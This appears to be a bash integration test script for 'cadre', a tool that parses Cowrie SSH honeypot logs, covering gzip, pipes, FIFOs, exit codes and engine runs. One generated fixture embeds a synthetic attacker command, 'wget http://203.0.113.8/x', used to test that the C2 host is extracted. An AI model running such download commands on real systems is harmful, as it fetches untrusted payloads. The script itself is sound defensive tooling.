#!/usr/bin/env bash
# cowrie.sh - black-box checks of the Cowrie adapter on the real binary: `cadre ingest
# cowrie` (plain, gzip, stdin, pipes and FIFOs, file order, --flush-idle, --group, input
# whose every line is bad, the limits' drop counts), and Cowrie logs replayed end to end
# through the embedded engine (`cadre run --input cowrie`, on a fixture and on one real
# radec73-2024 file) and through a running engine (`cadre send --input cowrie`).
# shellcheck source=tests/it/lib.sh
source "$(dirname "$0")/lib.sh"
# shellcheck source=tests/it/engine_lib.sh
source "$(dirname "$0")/engine_lib.sh"
: "${CADRE:?}" "${TESTDATA_DIR:?}" "${SHARED_DIR:?}"
SMALL="$TESTDATA_DIR/cowrie/small.jsonl"
REAL="$SHARED_DIR/realdata/radec73-2024/cowrie/cowrie.json.2024-04-01"

# ingest ARGS...: runs `cadre ingest cowrie ARGS...`, stdout in last.out, stderr in last.err.
ingest() { expect_exit 0 "$CADRE" ingest cowrie "$@"; }
err_has() {
    grep -qF -- "$1" "$TMP/last.err" || {
        echo "  stderr lacks: $1" >&2
        sed 's/^/    /' "$TMP/last.err" >&2
        return 1
    }
}
lines_of() { wc -l <"$1" | tr -d ' '; }
# syslog.txt: not a Cowrie log (every line bad); blank.json: blank lines only.
printf 'Dec  1 10:00:00 host sshd[1]: Accepted password\nnot json either\n\n' >"$TMP/syslog.txt"
printf '\n  \n' >"$TMP/blank.json"

t_ingest() {
    ingest "$SMALL" && err_has "15 lines, 1 bad, 5 sessions (7 cadre sessions), 4 observations" &&
        err_has "small.jsonl:15: " && [ "$(lines_of "$TMP/last.out")" -eq 4 ] &&
        grep -q '"id": "aa01#3".*"c2": "198.51.100.23"\|"c2": "198.51.100.23".*"id": "aa01#3"' \
            "$TMP/last.out"
}
check "ingest: the fixture's counts, the truncated line reported, split ids" t_ingest

t_gzip() {
    ingest "$SMALL" && cp "$TMP/last.out" "$TMP/plain.out" &&
        gzip -c "$SMALL" >"$TMP/small.jsonl.gz" &&
        ingest "$TMP/small.jsonl.gz" && cmp -s "$TMP/plain.out" "$TMP/last.out" &&
        expect_exit 0 "$CADRE" ingest cowrie - <"$TMP/small.jsonl.gz" &&
        cmp -s "$TMP/plain.out" "$TMP/last.out"
}
check "ingest: gzip file and gzip on stdin give the plain file's output" t_gzip

t_order() {
    head -n 11 "$SMALL" >"$TMP/part1.json"
    tail -n +12 "$SMALL" >"$TMP/part2.json"
    ingest "$TMP/part1.json" "$TMP/part2.json" && cp "$TMP/last.out" "$TMP/in_order.out" &&
        ingest "$TMP/part2.json" "$TMP/part1.json" && cmp -s "$TMP/in_order.out" "$TMP/last.out"
}
check "ingest: files in any order give the same output" t_order

t_flush() {
    ingest "$SMALL" --flush-idle 3600 && [ "$(lines_of "$TMP/last.out")" -eq 5 ] &&
        grep -q '"id": "cowrie:192.0.2.10~2"' "$TMP/last.out" && err_has "5 observations"
}
check "ingest --flush-idle: a source returning after the window gets ~2" t_flush

t_group() {
    ingest "$SMALL" --group ip-sensor && grep -q '"id": "cowrie:192.0.2.10@pot-a"' "$TMP/last.out"
}
check "ingest --group ip-sensor: ids carry the sensor" t_group

t_usage() {
    expect_exit 2 "$CADRE" ingest cowrie "$SMALL" --group nope &&
        expect_exit 2 "$CADRE" ingest cowrie "$SMALL" --flush-idle -1 &&
        expect_exit 2 "$CADRE" run --input bogus "$SMALL" &&
        expect_exit 2 "$CADRE" run "$SMALL" "$SMALL" &&
        expect_exit 1 "$CADRE" ingest cowrie "$TMP/missing.json"
}
check "usage errors and a missing file" t_usage

t_run_fixture() {
    expect_exit 0 "$CADRE" run --input cowrie "$SMALL" --fatt "$TESTDATA_DIR/cowrie/fatt.jsonl" \
        --out "$TMP/asg.jsonl" && [ "$(lines_of "$TMP/asg.jsonl")" -eq 4 ] &&
        grep -q "4 records acknowledged, 0 refused" "$TMP/last.out" && err_has "4 observations"
}
check "run --input cowrie: the fixture end to end" t_run_fixture

t_run_real() {
    local ips
    ips=$(python3 -c 'import json,sys; print(len({json.loads(l)["src_ip"] for l in open(sys.argv[1])}))' "$REAL")
    expect_exit 0 "$CADRE" run --input cowrie "$REAL" --out "$TMP/real.asg.jsonl" &&
        [ "$(lines_of "$TMP/real.asg.jsonl")" -eq "$ips" ] &&
        grep -q "^$ips records acknowledged, 0 refused" "$TMP/last.out" &&
        err_has "308 lines, 0 bad, 61 sessions (63 cadre sessions), $ips observations"
}
check "run --input cowrie: one real radec73-2024 file, one assignment per source IP" t_run_real

t_send() {
    local dir="$TMP/eng" cfg="$TMP/eng/cadre.yaml"
    write_config "$cfg" "$dir" 1
    start_engine "$cfg" 1
    wait_until 20 health_answers "$cfg" &&
        expect_exit 0 timeout 60 "$CADRE" send --config "$cfg" --input cowrie "$SMALL" &&
        grep -q "^4 acknowledged, 0 refused, 0 unreadable, flushed at seq" "$TMP/last.out" &&
        expect_exit 65 timeout 60 "$CADRE" send --config "$cfg" --input cowrie "$TMP/syslog.txt" &&
        err_has "every Cowrie line is bad" && grep -q "^0 acknowledged" "$TMP/last.out" &&
        stop_engine 1
}
check "send --input cowrie: the fixture to a running engine; a non-Cowrie file exits 65" t_send

# Pipes, process substitutions, FIFOs and standard input: every input is opened once, so
# they are read whole (a second open of a pipe finds it drained, of a FIFO waits forever).
# big.json: 3,000 lines over 300 sessions and 30 source IPs, well over textin's 64 KiB
# chunk; early.json holds events before any of big.json's.
python3 - "$TMP/big.json" "$TMP/early.json" <<'PY'
import json, sys
def event(i, day):
    return json.dumps({"eventid": "cowrie.command.input", "src_ip": "198.51.100.%d" % (i % 30),
                       "session": "s%d-%d" % (day, i % 300), "input": "echo %d padding-%s" % (i, "x" * 20),
                       "timestamp": "2024-04-%02dT10:%02d:%02d.000000Z" % (day, i // 60 % 60, i % 60)})
with open(sys.argv[1], "w") as f:
    for i in range(3000):
        f.write(event(i, 2) + "\n")
with open(sys.argv[2], "w") as f:
    for i in range(50):
        f.write(event(i, 1) + "\n")
PY
gzip -c "$TMP/big.json" >"$TMP/big.json.gz"

# same_as_file ARGS...: `cadre ingest cowrie ARGS...` reads all 3,000 lines of big.json and
# writes what reading the file by name writes.
same_as_file() {
    ingest "$@" && err_has "3000 lines, 0 bad, 300 sessions" && cmp -s "$TMP/big.out" "$TMP/last.out"
}

t_pipes() {
    ingest "$TMP/big.json" && cp "$TMP/last.out" "$TMP/big.out" &&
        same_as_file <(cat "$TMP/big.json") &&
        same_as_file <(cat "$TMP/big.json.gz") &&
        same_as_file <(gzip -c "$TMP/big.json") &&
        expect_exit 0 "$CADRE" ingest cowrie - <"$TMP/big.json.gz" &&
        err_has "3000 lines, 0 bad" && cmp -s "$TMP/big.out" "$TMP/last.out" &&
        cat "$TMP/big.json" | expect_exit 0 "$CADRE" ingest cowrie - &&
        err_has "3000 lines, 0 bad" && cmp -s "$TMP/big.out" "$TMP/last.out"
}
check "ingest: pipes, process substitutions (plain, gzip) and stdin are read whole" t_pipes

# fifo_ingest SOURCE ARGS...: big.json through a named FIFO that a background writer fills
# with SOURCE; fails (rather than hangs) when the FIFO is not read to its end.
fifo_ingest() {
    local src=$1 rc=0
    shift
    rm -f "$TMP/fifo"
    mkfifo "$TMP/fifo"
    cat "$src" >"$TMP/fifo" &
    local writer=$!
    expect_exit 0 timeout 60 "$CADRE" ingest cowrie "$TMP/fifo" "$@" || rc=1
    kill "$writer" 2>/dev/null || true
    wait "$writer" || rc=1
    return $rc
}

t_fifo() {
    fifo_ingest "$TMP/big.json" && err_has "3000 lines, 0 bad" &&
        cmp -s "$TMP/big.out" "$TMP/last.out" &&
        fifo_ingest "$TMP/big.json.gz" && err_has "3000 lines, 0 bad" &&
        cmp -s "$TMP/big.out" "$TMP/last.out"
}
check "ingest: a named FIFO (plain, gzip) is read whole" t_fifo

# Several piped inputs are still read in the order of their first events.
t_pipe_order() {
    ingest "$TMP/early.json" "$TMP/big.json" && cp "$TMP/last.out" "$TMP/both.out" &&
        err_has "3050 lines, 0 bad" &&
        ingest <(gzip -c "$TMP/big.json") <(cat "$TMP/early.json") &&
        err_has "3050 lines, 0 bad" && cmp -s "$TMP/both.out" "$TMP/last.out" &&
        expect_exit 0 "$CADRE" ingest cowrie <(cat "$TMP/big.json") - <"$TMP/early.json" &&
        err_has "3050 lines, 0 bad" && cmp -s "$TMP/both.out" "$TMP/last.out"
}
check "ingest: pipes and stdin are ordered by their first event like files" t_pipe_order

# Every line bad (not a Cowrie log at all): named, and exit 65 (EX_DATAERR), for ingest,
# run and send alike; blank lines are neither; one bad file among good ones is named but
# does not fail the run.
t_all_bad() {
    expect_exit 65 "$CADRE" ingest cowrie "$TMP/syslog.txt" &&
        err_has "syslog.txt: every line is bad (2 of 2): not a Cowrie JSON log?" &&
        err_has "every Cowrie line is bad (2 of 2)" &&
        expect_exit 65 "$CADRE" ingest cowrie <(gzip -c "$TMP/syslog.txt") &&
        expect_exit 65 "$CADRE" run --input cowrie "$TMP/syslog.txt" &&
        err_has "every Cowrie line is bad" &&
        expect_exit 65 "$CADRE" ingest cowrie "$SMALL" --fatt "$TMP/syslog.txt" &&
        err_has "every fatt line is bad (2 of 2)" &&
        ingest "$TMP/blank.json" && err_has "2 lines, 0 bad, 0 sessions" &&
        ingest "$TMP/syslog.txt" "$SMALL" &&
        err_has "syslog.txt: every line is bad (2 of 2)" && err_has "4 observations"
}
check "every line bad: named, exit 65 (ingest, run, fatt); blank or partly bad input: exit 0" \
    t_all_bad

# What the limits keep out is said per kind: a command over 64 KiB is dropped (its C2 host
# is still kept).
t_dropped() {
    python3 -c 'import json; print(json.dumps({"eventid": "cowrie.command.input",
        "src_ip": "192.0.2.99", "session": "big", "timestamp": "2024-04-01T10:00:00Z",
        "input": "echo " + "a" * 70000 + "; wget http://203.0.113.8/x"}))' >"$TMP/long.json"
    ingest "$TMP/long.json" && err_has "dropped over the limits (docs/cowrie.md): 1 values" &&
        grep -q '"c2": "203.0.113.8"' "$TMP/last.out"
}
check "ingest: values over the limits are counted on stderr, their C2 host kept" t_dropped

t_run_pipe() {
    expect_exit 0 "$CADRE" run --input cowrie <(gzip -c "$TMP/big.json") --out "$TMP/pipe.asg.jsonl" &&
        err_has "3000 lines, 0 bad, 300 sessions" && [ "$(lines_of "$TMP/pipe.asg.jsonl")" -eq 30 ]
}
check "run --input cowrie: a process substitution is read whole" t_run_pipe

finish
